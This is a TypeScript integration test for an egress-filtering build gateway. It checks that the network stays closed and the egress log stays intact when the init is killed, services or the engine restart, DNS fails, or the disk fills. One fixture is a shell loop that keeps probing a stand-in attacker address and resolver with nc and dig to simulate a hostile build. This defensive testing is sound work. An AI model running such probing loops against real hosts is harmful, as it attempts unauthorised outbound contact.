// What breaks while a build runs: nothing opens, what can recover does, and the record holds up to the cut.
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { setImmediate as turn } from 'node:timers/promises'
import t, { type Test } from 'tap'
import { fillDisk } from '../lab/full-disk.ts'
import { openLab, type Lab } from '../lab/lab.ts'
import { until } from '../netns/machine-services.ts'
import { labRoots } from './compose-project.ts'
import type { Engine } from './engine/engine.ts'
import { openProductEngine } from './engine/product-engine.ts'
import { whyNoDocker } from './engine/requirements.ts'
import { interfacesOf, killFirst, openJobRig, patienceMs, processesOf, type JobRig } from './job-rig.ts'

t.setTimeout(400_000)

const url = 'http://api.acme.test/status/204'
const policy = `version: 1
mode: block
allow: ['http://*.acme.test']
tls: { extraCa: [/etc/tidegate/lab-ca.pem] }
`

/** Tries the attacker's address and the resolver's over and over, whatever happens around it. */
const restless = `while :; do nc -zw1 203.0.113.66 443; echo x | nc -uw1 203.0.113.66 9; dig +time=1 +tries=1 @203.0.113.53 x.evil.test; sleep 0.3; done >/dev/null 2>&1`
const building = (script: string): string => `services:
  build: { image: lab/tools, command: [sh, -c, ${JSON.stringify(script)}], init: true }
${labRoots}`

/** Moments in the life of an init, and how the machine sees that they have come. */
const moments: readonly (readonly [name: string, come: (machine: Watched) => boolean])[] = [
  ['it is there', ({ init }) => processesOf(init).length > 0],
  ['the gateway makes its side', ({ trust }) => existsSync(`${trust}/ca.crt`)],
  ['the wire is laid', ({ net }) => interfacesOf(net).length > 1],
  ['the gate opens', ({ trust }) => existsSync(`${trust}/ready`)],
]

interface Watched {
  /** Id of its container. */
  readonly init: string
  /** A process in the job's network namespace. */
  readonly net: number
  /** The job's folder, as the machine sees it. */
  readonly trust: string
}

t.test('a job whose surroundings break', { skip: whyNoDocker() }, async t => {
  await using lab = await openLab()
  await using engine = await openProductEngine(lab)
  await t.test('killed, restarted', async t => {
    await using rig = openJobRig(lab, engine, 'broken', { policy, override: building(restless) })
    await killsOfTheInit(t, engine, rig)
    await restarts(t, rig)
    await engineDies(t, engine, rig)
    await resolverFails(t, lab, rig)
    t.strictSame(await lab.sink.lines(), [], 'nothing has reached the attacker at any moment')
  })
  await t.test('disk full', async t => diskFull(t, lab, engine))
})

async function killsOfTheInit(t: Test, engine: Engine, rig: JobRig): Promise<void> {
  await rig.compose('up', '--detach', '--wait', 'net', 'gateway')
  await rig.compose('up', '--no-start', 'init', 'build')
  // By the engine: compose would start the init first.
  t.equal((await engine.docker(['start', await rig.id('build')])).exitCode, 0)
  const idle = await rig.state()
  t.match(idle, { jobs: [], job: ['lo'], ready: false })
  const init = await rig.id('init')
  const [net = 0] = processesOf(await rig.id('net'))
  const trust = await rig.inGateway('/run/tidegate/jobs/build')
  await rig.up()
  const whole = await rig.state()
  await works(t, rig, 'the first time')
  const endJob = async (): Promise<void> => {
    await rig.detach()
    t.strictSame(await rig.settled(idle), idle, 'all of the wire goes with the job')
    await engine.docker(['wait', init])
  }
  await endJob()
  for (const [moment, come] of moments) {
    const starting = engine.docker(['start', init])
    for (const deadline = Date.now() + patienceMs; !come({ init, net, trust }); await turn())
      if (Date.now() > deadline) throw new Error(`it did not come that ${moment}`)
    await killFirst(init)
    await starting
    await engine.docker(['wait', init])
    const after = await rig.settled(idle, whole)
    const isWhole = after.jobs.length > 0
    t.strictSame(
      after,
      isWhole ? whole : idle,
      `init killed when ${moment}: ${isWhole ? 'all' : 'nothing'} of the wire`,
    )
    await rig.up()
    await works(t, rig, `init killed when ${moment}`)
    await endJob()
  }
}

async function works(t: Test, rig: JobRig, what: string): Promise<void> {
  t.match(await rig.state(), { jobs: ['build proved'], job: ['eth0', 'lo'], ready: true }, `${what}: the wire stands`)
  t.equal(await rig.fetch(url), '204', `${what}: the build works`)
}

async function restarts(t: Test, rig: JobRig): Promise<void> {
  await rig.up()
  const before = await rig.state()
  await rig.compose('restart', '--timeout', '1', 'build')
  t.strictSame(await rig.state(), before, 'a build that is restarted has the wire it had')
  await works(t, rig, 'build restarted')

  await rig.compose('restart', '--timeout', '5', 'gateway')
  const [net = 0] = processesOf(await rig.id('net'))
  await until(() => interfacesOf(net).join(' ') === 'lo', patienceMs)
  t.equal(await rig.fetch(url), '000', 'with the gateway its wire is gone, and nothing else is there')
  await rig.up()
  await works(t, rig, 'gateway restarted')
}

async function engineDies(t: Test, engine: Engine, rig: JobRig): Promise<void> {
  await engine.stop('KILL')
  await engine.start()
  await rig.compose('up', '--detach', '--wait', 'init', 'build')
  await works(t, rig, 'engine killed and started again')
}

async function resolverFails(t: Test, lab: Lab, rig: JobRig): Promise<void> {
  const dig = async (name: string): Promise<string> => {
    const asked = ['dig', '+tries=1', '+time=30', '+noall', '+comments', name]
    const { stdout } = await rig.project.compose(['exec', '--no-TTY', 'build', ...asked])
    return /status: (\w+)/.exec(stdout)?.[1] ?? 'no answer'
  }
  for (const how of ['timeout', 'SERVFAIL', 'garbage'] as const) {
    // One that no cache has.
    const name = `${how.toLowerCase()}.acme.test`
    await lab.serve(name)
    await lab.dns.fail(name, how)
    t.equal(await dig(name), 'SERVFAIL', `${how}: an answer, and the right one`)
    await lab.dns.fail(name, undefined)
    await until(async () => (await rig.fetch(`http://${name}/status/204`)) === '204', patienceMs)
  }
  t.match(await rig.state(), { jobs: ['build proved'] })
}

async function diskFull(t: Test, lab: Lab, engine: Engine): Promise<void> {
  const small = `volumes:
  record: { driver_opts: { type: tmpfs, device: tmpfs, o: 'size=256k,uid=65532,gid=65532,mode=0755' } }
`
  await using rig = openJobRig(lab, engine, 'full', { policy, override: `${building('sleep infinity')}${small}` })
  await rig.compose('up', '--detach', '--wait', 'init', 'build')
  const disk = await rig.inGateway('/var/log/tidegate')
  const log = `${disk}/build/latest/egress.ndjson`
  const fill = (): void => fillDisk(`${disk}/filler`)
  const empty = (): void => rmSync(`${disk}/filler`)
  const metrics = await metricsOf(lab, engine, rig)
  const isDegraded = async () => /^tidegate_enforcing\{mode="block",reason="log-failure"\} 0$/m.test(await metrics())
  const verify = async () =>
    rig.project.compose(['run', '--rm', '--no-TTY', 'report', 'tidegate', 'verify', '/var/log/tidegate/build/latest'])
  t.equal(await rig.fetch(url), '204')

  fill()
  // The first that cannot be written is known to be so when it has been tried.
  await until(async () => (await rig.fetch(url)) !== '204', patienceMs)
  t.equal(await isDegraded(), true, 'deny: the metrics say that the job is not protected as promised')
  for (let each = 0; each < 3; each += 1) t.notMatch(await rig.fetch(url), /^2/, 'deny: nothing new passes')
  t.match(await metrics(), /^tidegate_flows_total\{[^}]*reason="log-failure"[^}]*\} [1-9]/m)
  t.match(await metrics(), /^tidegate_log_failures_total 1$/m)
  const cut = await verify()
  t.match(cut.stderr + cut.stdout, 'intact so far, but not sealed', 'what was written before holds')
  empty()
  await until(async () => (await rig.fetch(url)) === '204', patienceMs)
  t.equal(await isDegraded(), false, 'it recovers by itself')

  // In place: a mounted file stays the one that it is.
  writeFileSync(`${rig.project.dir}/tidegate.yaml`, `${policy}onLogFailure: allow\n`)
  await rig.compose('kill', '--signal', 'HUP', 'gateway')
  await until(() => readFileSync(log, 'utf8').includes('"event":"policy-changed"'), patienceMs)
  fill()
  await until(async () => (await rig.fetch(url)) === '204' && (await isDegraded()), patienceMs)
  for (let each = 0; each < 3; each += 1) t.equal(await rig.fetch(url), '204', 'allow: flows go on')
  t.match(await metrics(), /^tidegate_log_failures_total 2$/m, 'allow: it is counted')
  empty()
  await until(async () => !(await isDegraded()), patienceMs)

  await rig.detach()
  const whole = await verify()
  t.equal(whole.exitCode, 0, `the log is whole and sealed: ${whole.stderr}`)
  const outages = readFileSync(log, 'utf8').match(/"event":"anomaly"[^\n]*"kind":"log-failure"/g)
  t.equal(outages?.length, 2, 'the log says itself where it could not be written')
}

/** Reads the gateway's metrics from its own network, as Prometheus would. */
async function metricsOf(lab: Lab, engine: Engine, rig: JobRig): Promise<() => Promise<string>> {
  const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}'
  const { stdout } = await engine.docker(['inspect', '--format', format, await rig.id('gateway')])
  return async () => (await lab.host.exec('curl', ['-sS', '-m', '20', `http://${stdout.trim()}:9464/metrics`])).stdout
}
